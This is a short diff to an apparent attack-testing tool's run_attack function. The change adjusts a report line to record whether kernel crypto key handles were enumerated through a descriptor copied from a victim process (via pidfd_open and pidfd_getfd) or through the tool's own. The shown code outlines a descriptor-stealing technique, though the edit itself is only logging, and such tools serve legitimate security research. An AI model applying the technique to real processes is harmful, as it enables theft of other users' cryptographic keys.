@@ -814,6 +814,7 @@ def run_attack(args, S):
         if not os.path.exists("/proc/%d" % pid):
             raise SystemExit2("no process %d" % pid)
     fds, how = steal_descriptors(pids[0])
+    stolen = bool(fds)
     if fds:
         R.line("a", "descriptor", "pidfd_open(%d) + pidfd_getfd" % pids[0],
                how, "the attacker now holds the victim's own key namespace "
@@ -846,8 +847,10 @@ def run_attack(args, S):
         n = ncrio.Ncr(fd=fd)
         try:
             handles = find_handles(n, args.max_handle)
-            R.line("a", "descriptor", "KEY_GET_INFO on handles 0..%d of "
-                   "descriptor %d" % (args.max_handle - 1, fd),
+            R.line("a", "descriptor", "KEY_GET_INFO on handles 0..%d "
+                   "through %s (fd %d here)" % (
+                       args.max_handle - 1, "the copied descriptor" if stolen
+                       else "our own descriptor", fd),
                    "%d key(s): %s" % (len(handles), "; ".join(
                        describe(h, i) for h, i in handles) or "none"),
                    "these are the handles to attack")
